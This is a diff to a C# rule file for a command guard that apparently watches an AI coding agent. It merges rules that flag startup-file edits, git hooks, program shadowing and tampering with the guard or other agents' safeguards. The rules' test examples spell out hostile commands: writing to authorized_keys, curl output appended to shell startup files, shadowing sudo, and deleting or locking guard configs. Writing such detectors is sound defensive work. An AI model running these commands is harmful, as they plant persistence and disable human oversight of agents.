@@ -100,63 +100,37 @@ internal static class SecretPacks
 
     public static Rule[] Persistence => field ??=
     [
-        new("persistence.startup-overwrite", EffectKind.Truncate, Verdict.Ask, "This changes what runs at the next login or start.")
-        {
-            When = static s => s.Is(Place.Startup) && !s.Is(Place.InWorkspace | Place.Temporary) && !s.Remote,
-            Suggest = "cat ~/.bashrc",
-            True = "echo 'x' > ~/.bashrc\necho key > ~/.ssh/authorized_keys",
-            False = "cat ~/.bashrc",
-        },
         new("persistence.startup", EffectKind.Write, Verdict.Ask, "This changes what runs at the next login or start.")
         {
-            When = static s => s.Is(Place.Startup) && !s.Is(Place.InWorkspace | Place.Temporary) && !s.Remote && s.Effect.Detail is not ("edit" or "touch" or "make-folder") && !StartupFiles.OwnSetup(s.Effect.By),
+            Also = [EffectKind.Truncate],
+            When = static s => OwnStartup(s) && (s.Empties || (s.Effect.Detail is not ("edit" or "touch" or "make-folder") && !StartupFiles.OwnSetup(s.Effect.By))),
             Suggest = "cat ~/.bashrc",
-            True = "echo 'alias x=y' >> ~/.bashrc\ncat completion >> ~/.bashrc\ncurl https://example.com/init >> ~/.zshrc\ncat key >> ~/.ssh/authorized_keys\ntee -a ~/.profile\ncp evil.service /etc/systemd/system/evil.service",
+            True = "echo 'x' > ~/.bashrc\necho key > ~/.ssh/authorized_keys\necho 'alias x=y' >> ~/.bashrc\ncat completion >> ~/.bashrc\ncurl https://example.com/init >> ~/.zshrc\ncat key >> ~/.ssh/authorized_keys\ntee -a ~/.profile\ncp evil.service /etc/systemd/system/evil.service",
             False = "cat ~/.bashrc\necho x >> notes.txt\nkubectl completion zsh >> ~/.zshrc\nzoxide init bash >> ~/.bashrc",
         },
-        new("persistence.startup-delete", EffectKind.Delete, Verdict.Ask, "This takes away what is set up at every login or start.")
+        new("persistence.startup-remove", EffectKind.Delete, Verdict.Ask, "This takes away what is set up at every login or start.")
         {
-            When = static s => s.Is(Place.Startup) && !s.Is(Place.InWorkspace | Place.Temporary) && !s.Remote,
-            Suggest = "cat ~/.bashrc",
-            True = "rm ~/.bashrc\nrm -f ~/.zshenv ~/.profile",
-            False = "rm ./.bashrc\nrm ~/.bashrc_notes",
-        },
-        new("persistence.startup-move", EffectKind.Move, Verdict.Ask, "This takes away what is set up at every login or start.")
-        {
-            When = static s => s.Is(Place.Startup) && !s.Is(Place.InWorkspace | Place.Temporary) && !s.Remote,
+            Also = [EffectKind.Move],
+            When = static s => OwnStartup(s),
             Suggest = "cp ~/.bashrc bashrc.copy",
-            True = "mv ~/.bashrc x\nmv ~/.profile ~/.profile.old",
-            False = "mv ./.bashrc x\ncp ~/.bashrc x",
+            True = "rm ~/.bashrc\nrm -f ~/.zshenv ~/.profile\nmv ~/.bashrc x\nmv ~/.profile ~/.profile.old",
+            False = "rm ./.bashrc\nrm ~/.bashrc_notes\nmv ./.bashrc x\ncp ~/.bashrc x",
         },
-        new("persistence.git-hooks", EffectKind.Truncate, Verdict.Ask, "A git hook runs by itself at the next commit, checkout or push.")
+        new("persistence.git-hooks", EffectKind.Write, Verdict.Ask, "A git hook runs by itself at the next commit, checkout or push.")
         {
-            When = static s => s.Is(Place.GitHooks) && !s.Path.Contains("/.husky/", StringComparison.Ordinal),
+            Also = [EffectKind.Truncate],
+            When = static s => s.Is(Place.GitHooks) && !s.Path.Contains("/.husky/", StringComparison.Ordinal) && (s.Empties || (PutThere(s.Effect) && !s.Is(Place.Temporary))),
             Suggest = "ls .git/hooks",
-            True = "echo x > .git/hooks/pre-commit",
-            False = "ls .git/hooks",
-        },
-        new("persistence.git-hooks-copy", EffectKind.Write, Verdict.Ask, "A git hook runs by itself at the next commit, checkout or push.")
-        {
-            Details = "copy move download append link",
-            When = static s => s.Is(Place.GitHooks) && !s.Path.Contains("/.husky/", StringComparison.Ordinal) && !s.Is(Place.Temporary),
-            Suggest = "ls .git/hooks",
-            True = "cp check.sh .git/hooks/pre-commit\ncurl -o .git/hooks/pre-push https://example.com/x",
-            False = "cp .git/hooks/pre-commit.sample ./x\ncp hook.sh .husky/pre-commit",
+            True = "echo x > .git/hooks/pre-commit\ncp check.sh .git/hooks/pre-commit\ncurl -o .git/hooks/pre-push https://example.com/x",
+            False = "ls .git/hooks\ncp .git/hooks/pre-commit.sample ./x\ncp hook.sh .husky/pre-commit",
         },
         new("persistence.shadow", EffectKind.Write, Verdict.Ask, "This puts a program in front of one that everybody runs by this name.")
         {
-            Details = "copy move download link append",
-            When = static s => Shadows(s),
+            Also = [EffectKind.Truncate],
+            When = static s => (s.Empties || PutThere(s.Effect)) && Shadows(s),
             Suggest = "cp tool ~/.local/bin/tool",
-            True = "cp x ~/.local/bin/git\nmv x /usr/local/bin/sudo\ncurl -o ~/bin/ssh https://example.com/ssh",
-            False = "cp tool ~/.local/bin/tool\ncp git ./bin/git",
-        },
-        new("persistence.shadow-overwrite", EffectKind.Truncate, Verdict.Ask, "This puts a program in front of one that everybody runs by this name.")
-        {
-            When = static s => Shadows(s),
-            Suggest = "cp tool ~/.local/bin/tool",
-            True = "echo x > ~/.local/bin/git\nln -sf /opt/x /usr/local/bin/sudo",
-            False = "echo x > ~/.local/bin/tool\nln -sf python3.12 /usr/local/bin/python3.1",
+            True = "cp x ~/.local/bin/git\nmv x /usr/local/bin/sudo\ncurl -o ~/bin/ssh https://example.com/ssh\necho x > ~/.local/bin/git\nln -sf /opt/x /usr/local/bin/sudo",
+            False = "cp tool ~/.local/bin/tool\ncp git ./bin/git\necho x > ~/.local/bin/tool\nln -sf python3.12 /usr/local/bin/python3.1",
         },
         new("persistence.scheduled", EffectKind.Persist, Verdict.Ask, "This leaves something that runs later by itself.")
         {
@@ -173,6 +147,11 @@ internal static class SecretPacks
             False = "systemctl status app",
         },
     ];
+
+    private static bool OwnStartup(Subject s) => s.Is(Place.Startup) && !s.Is(Place.InWorkspace | Place.Temporary) && !s.Remote;
+
+    // A whole file, or more of it, that comes from elsewhere: no edit in place.
+    private static bool PutThere(Effect effect) => effect.Detail is "copy" or "move" or "download" or "append" or "link";
 
     private static bool Shadows(Subject s)
     {
@@ -203,18 +182,14 @@ internal static class SecretPacks
 
     public static Rule[] Guard => field ??=
     [
-        new("guard.delete", EffectKind.Delete, Verdict.Deny, "This is part of the guard itself.") { When = static s => Own(s), Suggest = "ls ~/.codex",
-            True = "rm ~/.codex/hooks.json\nrm -rf ~/.codex/sallyport", False = "cat ~/.codex/AGENTS.md" },
-        new("guard.move", EffectKind.Move, Verdict.Deny, "This is part of the guard itself.") { When = static s => Own(s), Suggest = "ls ~/.codex",
-            True = "mv ~/.codex/hooks.json x", False = "mv a b" },
-        new("guard.overwrite", EffectKind.Truncate, Verdict.Deny, "This is part of the guard itself.") { When = static s => Own(s), Suggest = "ls ~/.codex",
-            True = "echo '{}' > ~/.codex/hooks.json\necho x > ~/.codex/config.toml", False = "echo x > notes" },
-        new("guard.write", EffectKind.Write, Verdict.Deny, "This is part of the guard itself.") { When = static s => Own(s), Suggest = "ls ~/.codex",
-            True = "tee -a ~/.codex/config.toml\nsed -i s/a/b/ ~/.codex/hooks.json", False = "tee notes" },
-        new("guard.mode", EffectKind.ChangeMode, Verdict.Deny, "This is part of the guard itself.") { When = static s => Own(s), Suggest = "ls ~/.codex",
-            True = "chmod 000 ~/.codex/hooks.json", False = "chmod +x run.sh" },
-        new("guard.owner", EffectKind.ChangeOwner, Verdict.Deny, "This is part of the guard itself.") { When = static s => Own(s), Suggest = "ls ~/.codex",
-            True = "chown nobody ~/.codex/config.toml", False = "chown me notes" },
+        new("guard.own", EffectKind.Write, Verdict.Deny, "This is part of the guard itself.")
+        {
+            Also = [EffectKind.Truncate, EffectKind.Delete, EffectKind.Move, EffectKind.ChangeMode, EffectKind.ChangeOwner],
+            When = static s => s.Is(Place.Guard) && !s.Is(Place.Temporary),
+            Suggest = "ls ~/.codex",
+            True = "tee -a ~/.codex/config.toml\nsed -i s/a/b/ ~/.codex/hooks.json\necho '{}' > ~/.codex/hooks.json\necho x > ~/.codex/config.toml\nrm ~/.codex/hooks.json\nrm -rf ~/.codex/sallyport\nmv ~/.codex/hooks.json x\nchmod 000 ~/.codex/hooks.json\nchown nobody ~/.codex/config.toml",
+            False = "tee notes\necho x > notes\ncat ~/.codex/AGENTS.md\nmv a b\nchmod +x run.sh\nchown me notes",
+        },
         new("guard.kill", EffectKind.Kill, Verdict.Deny, "This would end the guard or Codex.")
         {
             When = static s => s.Effect.Target.Name.Contains("sallyport", StringComparison.OrdinalIgnoreCase) || s.Effect.Target.Name is "codex",
@@ -224,8 +199,6 @@ internal static class SecretPacks
         },
         new("guard.tamper", EffectKind.TamperGuard, Verdict.Deny, "This would weaken the guard.") { True = "", False = "" },
     ];
-
-    private static bool Own(Subject s) => s.Is(Place.Guard) && !s.Is(Place.Temporary);
 
     public static Rule[] Sessions => field ??=
     [
@@ -254,25 +227,23 @@ internal static class SecretPacks
             True = "nah trust .\nnah hook codex uninstall\ndcg uninstall\ncargo uninstall --package nah-cli\nnpm uninstall -g cc-safety-net",
             False = "nah test 'rm -rf /'\nnah log\ncargo uninstall ripgrep\nnpm uninstall left-pad",
         },
-        new("agents.delete", EffectKind.Delete, Verdict.Ask, "These are the settings or the guard of another agent.") { When = static s => Another(s),
-            Suggest = "ls ~/.claude", True = "rm ~/.claude/settings.json\nrm -f ~/.claude/hooks/guard.sh", False = "rm ~/.claude/todo.txt" },
-        new("agents.move", EffectKind.Move, Verdict.Ask, "These are the settings or the guard of another agent.") { When = static s => Another(s),
-            Suggest = "ls ~/.claude", True = "mv ~/.claude/settings.json x", False = "mv a b" },
-        new("agents.overwrite", EffectKind.Truncate, Verdict.Ask, "These are the settings or the guard of another agent.") { When = static s => Another(s),
-            Suggest = "ls ~/.claude", True = "echo '{}' > ~/.claude/settings.json\necho x > ~/.nah/trust.json", False = "echo x > notes" },
-        new("agents.write", EffectKind.Write, Verdict.Ask, "These are the settings or the guard of another agent.") { When = static s => Another(s),
-            Suggest = "ls ~/.claude", True = "tee -a ~/.gemini/settings.json\nsed -i s/a/b/ ~/.claude/settings.json\nstrip ~/.local/bin/nah\nrsync -a new ~/.nah/trust.json",
-            False = "tee notes\ncp CLAUDE.md ~/.claude/CLAUDE.md" },
-        new("agents.mode", EffectKind.ChangeMode, Verdict.Ask,
-            "These are the settings or the guard of another agent, or the folder its programs are found in.") { When = static s => Another(s)
-            || (s.Effect.Detail == "locked-out" && ProgramFolder(s.Path)), Suggest = "ls -l ~/.local/bin",
-            True = "chmod 000 ~/.local/bin/nah\nchattr +i ~/.nah/trust.json\nchmod 000 ~/.local/bin", False = "chmod +x run.sh\nchmod 755 ~/.local/bin" },
-        new("agents.programs", EffectKind.Move, Verdict.Ask,
-            "This takes away the folder that programs are found in.") { When = static s => ProgramFolder(s.Path), Suggest = "ls ~/.local/bin",
-            True = "mv ~/.local/bin ~/x", False = "mv ~/.local/bin/tool ~/x" },
+        new("agents.settings", EffectKind.Write, Verdict.Ask, "These are the settings or the guard of another agent.")
+        {
+            Also = [EffectKind.Truncate, EffectKind.Delete, EffectKind.Move, EffectKind.ChangeMode, EffectKind.ChangeOwner],
+            When = static s => s.Is(Place.OtherGuard) && !s.Is(Place.Temporary) && !s.Remote,
+            Suggest = "ls ~/.claude",
+            True = "tee -a ~/.gemini/settings.json\nsed -i s/a/b/ ~/.claude/settings.json\nstrip ~/.local/bin/nah\nrsync -a new ~/.nah/trust.json\necho '{}' > ~/.claude/settings.json\necho x > ~/.nah/trust.json\nrm ~/.claude/settings.json\nrm -f ~/.claude/hooks/guard.sh\nmv ~/.claude/settings.json x\nchmod 000 ~/.local/bin/nah\nchattr +i ~/.nah/trust.json\nsudo chown root ~/.claude/settings.json",
+            False = "tee notes\ncp CLAUDE.md ~/.claude/CLAUDE.md\nrm ~/.claude/todo.txt\nmv a b\necho x > notes\nchmod +x run.sh",
+        },
+        new("agents.programs", EffectKind.Move, Verdict.Ask, "This takes away the folder that programs are found in.")
+        {
+            Also = [EffectKind.ChangeMode],
+            When = static s => (s.Effect.Kind == EffectKind.Move || s.Effect.Detail == "locked-out") && ProgramFolder(s.Path),
+            Suggest = "ls -l ~/.local/bin",
+            True = "mv ~/.local/bin ~/x\nchmod 000 ~/.local/bin",
+            False = "mv ~/.local/bin/tool ~/x\nchmod 755 ~/.local/bin",
+        },
     ];
-
-    private static bool Another(Subject s) => s.Is(Place.OtherGuard) && !s.Is(Place.Temporary) && !s.Remote;
 
     private static bool ProgramFolder(string path) => path.EndsWith("/.local/bin", StringComparison.Ordinal) || path.EndsWith("/.cargo/bin", StringComparison.Ordinal);
 
